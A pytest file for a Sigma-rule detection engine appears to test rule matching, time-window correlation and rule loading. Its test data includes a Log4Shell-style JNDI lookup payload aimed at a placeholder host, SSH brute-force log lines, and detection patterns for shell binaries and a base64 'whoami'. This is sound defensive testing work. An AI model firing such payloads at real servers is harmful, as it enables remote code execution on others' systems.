"""What rules match, how windows of time are counted, and where rules come from."""

import json
from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest

from evals import data
from mesh.agents.threat_intelligence.events import normalise
from mesh.agents.threat_intelligence.rulebook import Rules, community_catalogue, compiled_own, own_catalogue
from mesh.agents.threat_intelligence.sigma import detect, prepared, rules_from
from mesh.agents.threat_intelligence.sigma_compile import Refused, compile_rule, compile_yaml
from mesh.agents.threat_intelligence.sigma_match import View, like, predicate_of
from mesh.agents.threat_intelligence.sigma_rule import Catalogue, Compiled, compiled_from
from mesh.kit.ports import Edition, Row

ID = "8f6f0d5e-6d0b-4c3a-9d0e-000000000001"
NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)


def rule(detection: Mapping[str, Any], **more: Any) -> Compiled:
    document = {
        "title": "t",
        "id": ID,
        "logsource": {"product": "test"},
        "detection": dict(detection),
        **more,
    }
    return compiled_from(json.loads(json.dumps(compile_rule(document).row())))


def matches(detection: Mapping[str, Any], event: Mapping[str, Any]) -> bool:
    events = normalise([{"logsource": {"product": "test"}, **event}])
    return bool(detect(events, Rules([Catalogue("c", "1", [rule(detection)])])))


@pytest.mark.parametrize(
    ("test", "passes", "fails"),
    [
        ({"a": "Cat"}, "cAT", "cats"),
        ({"a": ["cat", "dog"]}, "dog", "cow"),
        ({"a": "c*t"}, "coat", "coats"),
        ({"a": "c?t"}, "cat", "coat"),
        ({"a": r"c\*t"}, "c*t", "cat"),
        ({"a": 7}, 7, 8),
        ({"a": True}, True, False),
        ({"a": None}, None, "x"),
        ({"a": ""}, "", "x"),
        ({"a": "*"}, "anything", None),
        ({"a|contains": "cat"}, "a Cat!", "act"),
        ({"a|contains|all": ["cat", "dog"]}, "dog and cat", "cat"),
        ({"a|startswith": "cat"}, "Cats", "a cat"),
        ({"a|endswith": ["\\cmd.exe", "\\sh.exe"]}, "C:\\x\\CMD.exe", "C:\\xcmd.exe.txt"),
        ({"a|cased": "Cat"}, "Cat", "cat"),
        ({"a|contains|cased": "Cat"}, "a Cat", "a cat"),
        ({"a|re": "^c.{1,2}t$"}, "coat", "chariot"),
        ({"a|re|i": "^cat$"}, "CAT", "dog"),
        ({"a|cidr": "203.0.113.0/24"}, "203.0.113.9", "203.0.114.9"),
        ({"a|cidr": "2001:db8::/32"}, "2001:db8::1", "not an address"),
        ({"a|gte": 7}, "7", 6.9),
        ({"a|lt": 7}, -1, "seven"),
        ({"a|exists": True}, "", None),
        ({"a|exists": False}, None, "x"),
        ({"a|base64": "cat"}, "Y2F0", "cat"),
        ({"a|base64offset|contains": "whoami"}, "xxx d2hvYW1p", "whoami"),
        ({"a|windash|contains": " -x "}, "run /x now", "run x now"),
        ({"a|wide|base64offset|contains": "id"}, "aQBkA", "id"),
        ({"a|fieldref": "b"}, "same", "other"),
        ({"a|fieldref|startswith": "b"}, "same thing", "another"),
    ],
)
def test_each_modifier_passes_and_fails_as_the_specification_says(
    test: Mapping[str, Any], passes: Any, fails: Any
) -> None:
    detection = {"selection": test, "condition": "selection"}
    assert matches(detection, {"a": passes, "b": "same"})
    assert not matches(detection, {"a": fails, "b": "same"})


@pytest.mark.parametrize(
    ("condition", "wanted"),
    [
        ("sel_a and sel_b", False),
        ("sel_a or sel_b", True),
        ("sel_a and not sel_b", True),
        ("1 of sel_*", True),
        ("all of sel_*", False),
        ("1 of them", True),
        ("all of them", False),
        ("not (sel_a and sel_b)", True),
        ("sel_b or (sel_a and not sel_b)", True),
    ],
)
def test_conditions_combine_selections(condition: str, wanted: bool) -> None:
    detection = {"sel_a": {"a": 1}, "sel_b": {"b": 2}, "condition": condition}
    assert matches(detection, {"a": 1, "b": 3}) is wanted


def test_keywords_are_looked_for_in_the_whole_event() -> None:
    detection = {"words": ["needle", "pin*"], "condition": "words"}
    assert matches(detection, {"x": {"y": ["hay", "a Needle here"]}})
    assert not matches(detection, {"x": "hay"})


def test_one_value_of_several_is_enough_but_all_must_be_found() -> None:
    assert matches({"s": {"a.b": "x"}, "condition": "s"}, {"a": [{"b": "w"}, {"b": "x"}]})
    assert not matches(
        {"s": {"a.b|contains|all": ["x", "z"]}, "condition": "s"}, {"a": [{"b": "w"}, {"b": "x"}]}
    )


def test_a_list_left_for_the_user_to_fill_in_never_matches() -> None:
    assert not matches({"s": {"a|expand": "%admins%"}, "condition": "s"}, {"a": "%admins%"})


@pytest.mark.parametrize(
    ("parts", "value", "wanted"),
    [
        ([0], "", True),
        (["a", 0, "b"], "ab", True),
        (["a", 0, "b"], "a", False),
        (["ab", 0, "ba"], "aba", False),
        ([0, "x", 1, "z", 0], "aaxyzaa", True),
        ([0, "x", 1, "z"], "xz", False),
        ([1, 1], "ab", True),
        ([0, "a", 0, "a", 0], "ba", False),
    ],
)
def test_wildcards_fit_the_whole_value(parts: list[Any], value: str, wanted: bool) -> None:
    assert like(parts, value) is wanted


def test_a_pattern_made_to_explode_is_answered_at_once() -> None:
    bomb = {"s": {"a|re": "^(a+)+$", "b": "*a*a*a*a*a*a*a*a*x"}, "condition": "s"}
    assert not matches(bomb, {"a": "a" * 30_000 + "!", "b": "a" * 30_000})


def test_a_pattern_that_needs_backtracking_is_refused_and_said() -> None:
    with pytest.raises(Refused):
        rule({"s": {"a|re": r"(x)\1"}, "condition": "s"})
    stored = replace(rule({"s": {"a": 1}, "condition": "s"}), test=["re", "a", [r"(x)\1"]])
    rules = Rules([Catalogue("c", "1", [stored])])
    assert detect(normalise([{"logsource": {"product": "test"}, "a": "xx"}]), rules) == []
    assert "linear time" in rules.refused[0]


@pytest.mark.parametrize(
    "document",
    [
        {"title": "no detection", "logsource": {"product": "test"}},
        {
            "title": "bad condition",
            "logsource": {"product": "x"},
            "detection": {"s": {"a": 1}, "condition": "s and"},
        },
        {
            "title": "unknown name",
            "logsource": {"product": "x"},
            "detection": {"s": {"a": 1}, "condition": "other"},
        },
        {
            "title": "bad pattern",
            "logsource": {"product": "x"},
            "detection": {"s": {"a|re": "("}, "condition": "s"},
        },
    ],
)
def test_a_rule_that_cannot_be_read_is_refused_with_its_title(document: dict[str, Any]) -> None:
    with pytest.raises(Refused, match=document["title"]):
        compile_rule(document)


def test_a_detection_shows_the_fields_that_matched_and_the_events() -> None:
    detection = {"s": {"a|contains": "cat"}, "f": {"b": 1}, "condition": "s and not f"}
    tagged = rule(detection, tags=["attack.execution", "attack.t1059.001"], level="high")
    events = normalise([{"logsource": {"product": "test"}, "a": text} for text in ("dog", "cat", "a cat")])
    found = detect(events, Rules([Catalogue("c", "1", [tagged])]))
    assert len(found) == 1
    assert found[0].events == (1, 2)
    assert (found[0].count, found[0].level, found[0].techniques) == (2, "high", ("T1059.001",))
    assert [(each.field, each.value) for each in found[0].evidence] == [("a", "cat")]


def correlation(kind: str, **more: Any) -> Rules:
    steps: list[dict[str, Any]] = [
        {"title": n, "name": n, "level": "informational", "logsource": {"product": "test"},
         "detection": {"s": {"do": n}, "condition": "s"}} for n in ("one", "two")
    ]  # fmt: skip
    settings = {"type": kind, "rules": ["one"], "group-by": ["who"], "timespan": "10m", **more}
    outer: dict[str, Any] = {"title": "outer", "id": ID, "level": "high", "correlation": settings}
    return Rules([Catalogue("c", "1", [compiled_from(compile_rule(each).row()) for each in [*steps, outer]])])


def acts(*steps: tuple[str, float, str], **more: Any) -> list[dict[str, Any]]:
    return [
        {
            "logsource": {"product": "test"},
            "do": do,
            "who": who,
            "time": (NOON + timedelta(minutes=at)).isoformat(),
            **more,
        }
        for do, at, who in steps
    ]


def test_events_are_counted_within_the_window_and_the_group() -> None:
    rules = correlation("event_count", condition={"gte": 3})
    quick = acts(("one", 0, "bo"), ("one", 4, "bo"), ("one", 9, "bo"), ("one", 9, "ana"))
    slow = acts(("one", 0, "bo"), ("one", 8, "bo"), ("one", 16, "bo"))
    apart = acts(("one", 0, "bo"), ("one", 1, "ana"), ("one", 2, "cy"))
    found = detect(normalise(quick), rules)
    assert [(each.rule_id, each.events, each.count) for each in found] == [(ID, (0, 1, 2), 3)]
    assert found[0].evidence[0].value == "bo"
    assert detect(normalise(slow), rules) == []
    assert detect(normalise(apart), rules) == []


def test_different_values_are_counted_not_events() -> None:
    rules = correlation("value_count", condition={"field": "file", "gte": 3})
    same = normalise(acts(*[("one", at, "bo") for at in range(5)], file="f"))
    other = normalise([{**each, "file": at} for at, each in enumerate(acts(*[("one", 1, "bo")] * 3))])
    assert detect(same, rules) == []
    assert detect(other, rules)[0].count == 3


def test_rules_that_must_come_together_may_come_in_any_order() -> None:
    rules = correlation("temporal", rules=["one", "two"])
    assert detect(normalise(acts(("two", 0, "bo"), ("one", 5, "bo"))), rules)
    assert not detect(normalise(acts(("two", 0, "bo"), ("one", 11, "bo"))), rules)
    assert not detect(normalise(acts(("two", 0, "bo"), ("one", 1, "ana"))), rules)


def test_rules_that_must_follow_each_other_only_match_in_order() -> None:
    rules = correlation("temporal_ordered", rules=["one", "two"])
    assert detect(normalise(acts(("one", 0, "bo"), ("two", 5, "bo"))), rules)
    assert not detect(normalise(acts(("two", 0, "bo"), ("one", 5, "bo"))), rules)
    late_start = acts(("one", 0, "bo"), ("one", 20, "bo"), ("two", 25, "bo"))
    assert detect(normalise(late_start), rules)


def test_events_without_a_time_are_left_out_of_windows() -> None:
    timeless = [
        {key: value for key, value in each.items() if key != "time"} for each in acts(("one", 0, "bo"))
    ] * 5
    assert detect(normalise(timeless), correlation("event_count", condition={"gte": 3})) == []


def test_compiled_rules_are_those_beside_them() -> None:
    written = (files(__package__) / "rules" / "compiled.json").read_text(encoding="utf-8")
    folder = "src/mesh/agents/threat_intelligence/rules"
    hint = f"run python -m mesh.agents.threat_intelligence.rulebook > {folder}/compiled.json"
    assert written == compiled_own(), hint


def test_our_rules_are_complete_and_name_no_tool() -> None:
    rules = own_catalogue().rules
    assert len({each.id for each in rules}) == len({each.name for each in rules}) == len(rules)
    referred = {name for each in rules for name in (each.correlation or {}).get("rules", ())}
    assert referred <= {each.name for each in rules}
    for each in rules:
        assert each.techniques, each.title
        assert each.description.endswith("."), each.title
        assert each.falsepositives or each.level == "informational", each.title
        assert each.level != "informational" or each.name in referred, each.title
        assert "stratus" not in json.dumps(each.row()).lower()


class Loaded:
    """A knowledge store with one set."""

    def __init__(self, rows: list[Row]) -> None:
        self._rows = rows

    def edition(self, name: str) -> Edition | None:
        return Edition(name, "1", "2026-03-04", NOON, len(self._rows), "test") if self._rows else None

    def find(self, name: str, key: str) -> Row | None:
        return None

    def rows(self, name: str) -> Iterator[Row]:
        return iter(self._rows)


COMMUNITY = {
    "id": ID,
    "title": "Trail stopped",
    "level": "medium",
    "tags": ["attack.t1562.008"],
    "author": "someone",
    "logsource": {"product": "aws", "service": "cloudtrail"},
    "detection": {"s": {"eventName": "StopLogging"}, "condition": "s"},
}


def test_community_rules_are_used_when_loaded_and_missing_otherwise() -> None:
    stopped = normalise([{"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging"}])
    alone, edition = rules_from(Loaded([]))
    assert edition is None
    assert {each.catalogue for each in detect(stopped, alone)} == {"mesh"}
    for rows in ([COMMUNITY], [prepared(COMMUNITY)]):
        both, edition = rules_from(
            Loaded([*rows, {"id": "bad", "title": "bad", "logsource": {}, "detection": {}}])
        )
        assert edition is not None
        assert {each.catalogue for each in detect(stopped, both)} == {"mesh", "sigma"}
        assert any("bad" in why for why in both.refused)
        assert rules_from(Loaded([*rows, {}]))[0] is both  # the edition is the same: nothing is read again


def test_password_guessing_by_ssh_is_seen_in_an_auth_log() -> None:
    lines = [
        f"Mar  4 05:06:{n:02d} web1 sshd[8{n}]: Failed password for root from 203.0.113.9 port 47{n} ssh2"
        for n in range(9)
    ]
    lines.append("Mar  4 05:07:01 web1 sshd[900]: Accepted password for root from 203.0.113.9 port 4800 ssh2")
    titles = {each.title for each in detect(normalise(["\n".join(lines)]), Rules([own_catalogue()]))}
    assert "Many failed SSH sign-ins from one address" in titles
    assert "SSH sign-in succeeded after failures from the same address" in titles


def test_an_attack_in_an_access_log_is_seen() -> None:
    request = "GET /?x=${jndi:ldap://e.example/a} HTTP/1.1"
    line = f'203.0.113.9 - - [04/Mar/2026:05:06:07 +0000] "{request}" 200 1 "-" "-"'
    found = detect(normalise([line]), Rules([own_catalogue()]))
    assert [each.techniques for each in found] == [("T1190",)]


def shared(area: str, name: str) -> Path:
    return data.file(name, of=area) or pytest.skip(f"the evaluation data ({area}/{name}) is not here")


def test_compiling_yaml_reads_every_document_of_a_file() -> None:
    text = "title: a\nlogsource: {product: x}\ndetection: {s: {a: 1}, condition: s}\n---\ntitle: b\n"
    text += "logsource: {product: x}\ndetection: {s: {a: 1}, condition: s}\n"
    assert [each.title for each in compile_yaml([text])] == ["a", "b"]


def test_the_community_index_finds_what_trying_every_rule_finds() -> None:
    import gzip

    rows = json.loads(gzip.decompress(shared("threat", "sigma_rules.json.gz").read_bytes()))
    cases = json.loads(gzip.decompress(shared("threat", "sigma_regression_dev.json.gz").read_bytes()))[::7]
    needed = [
        row for row in rows if row["logsource"].get("category") in {"process_creation", "registry_set"}
    ][::6]
    ids = {name for case in cases for name in case["rule_ids"]}
    catalogue = community_catalogue(
        [*needed, *(row for row in rows if row["id"] in ids and row not in needed)], "1"
    )
    assert not catalogue.refused
    rules = Rules([catalogue])
    for case in cases:
        events = normalise(case["events"])
        assert ids & set(case["rule_ids"]) & {each.rule_id for each in detect(events, rules)}
        for event in events:
            view = View(event.fields, event.text)
            reached = {
                ready.rule.id for group in rules.for_source(event.source) for ready in group.reached(view)
            }
            tests = {each.id: each.test for each in catalogue.rules if event.source.serves(each.logsource)}
            assert {name for name, test in tests.items() if test and predicate_of(test)(view)} <= reached
